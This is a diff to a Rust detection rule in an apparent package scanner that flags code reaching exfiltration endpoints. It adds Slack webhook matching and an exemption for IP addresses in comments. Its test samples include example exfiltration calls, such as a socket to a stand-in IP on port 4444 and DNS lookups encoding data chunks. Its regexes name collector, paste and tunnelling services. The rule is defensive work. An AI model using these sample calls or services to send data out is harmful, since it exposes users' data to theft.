@@ -7,7 +7,7 @@ use crate::rules::{Emitter, code_files, find_text, is_doc_path};
 crate::declare_rule! {
     /// Code that addresses places stolen data goes: a raw public IP address as a URL or socket
     /// target, request collectors (webhook.site-style, out-of-band testing domains), Discord
-    /// webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
+    /// and Slack incoming webhooks, Telegram bot API, paste sites and file drops, calendar/paste dead drops,
     /// tunnelling domains, and DNS lookups of names built at run time (DNS exfiltration).
     /// Hosts are judged by their kind, never by a list of known-bad names.
     id: "suspicious-endpoint",
@@ -23,7 +23,9 @@ crate::declare_rule! {
            "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
            "https.get('https://pastebin.com/raw/abcd')",
            "const dns = require('dns'); dns.lookup(`${chunk}.${i}.oast-cb.example.net`, () => {})", "const dns = require('dns'); dns.lookup(hex + '.collect.example.org', cb)"],
-    pass: ["fetch('https://api.example.com/v2/items')", "const local = 'http://127.0.0.1:8080'",
+    pass: ["fetch('https://api.example.com/v2/items')",
+           "// Allows request.get('https://1.2.3.4/').set('Host', 'example.com')\nconst u = opts.url",
+           "const result = this.channel.requestBinarySync(method, payload)", "const local = 'http://127.0.0.1:8080'",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nconnect to http://203.0.113.10:8080",
            "const v = '1.2.3.4' // version-ish string not used as an address", "const dns = require('dns'); dns.lookup(host, cb)"],
 }
@@ -45,7 +47,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let ip_url =
         crate::regex!(r"(?i)\b(?:https?|wss?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?");
     let collectors = crate::regex!(
-        r"(?i)(discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/(?:raw|api)|\x22pastebin\.com\x22|'pastebin\.com'|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
+        r"(?i)(discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services/|api\.telegram\.org/bot|webhook\.site|requestbin\.[a-z]|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/(?:raw|api)|\x22pastebin\.com\x22|'pastebin\.com'|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
     );
     let tunnels = crate::regex!(
         r"(?i)\b[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|pagekite\.me|localhost\.run)\b"
@@ -59,6 +61,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
             [
                 "://",
                 "webhook",
+                "hooks.slack",
                 "telegram",
                 "pastebin",
                 "paste.ee",
@@ -102,7 +105,17 @@ fn check(pkg: &Package, out: &mut Emitter) {
             );
             continue;
         }
-        let ip = find(ip_url).into_iter().find(|(_, m)| {
+        // A raw IP in a comment is an example, not a destination.
+        let comment = |o: u32| {
+            let o = (o as usize).min(f.text.len());
+            let start = f.text[..o].rfind('\n').map_or(0, |i| i + 1);
+            let line = f.text[start..].trim_start();
+            line.starts_with("//") || line.starts_with('*')
+        };
+        let ip = find(ip_url).into_iter().find(|(o, m)| {
+            if comment(*o) {
+                return false;
+            }
             let host = m
                 .split("://")
                 .nth(1)
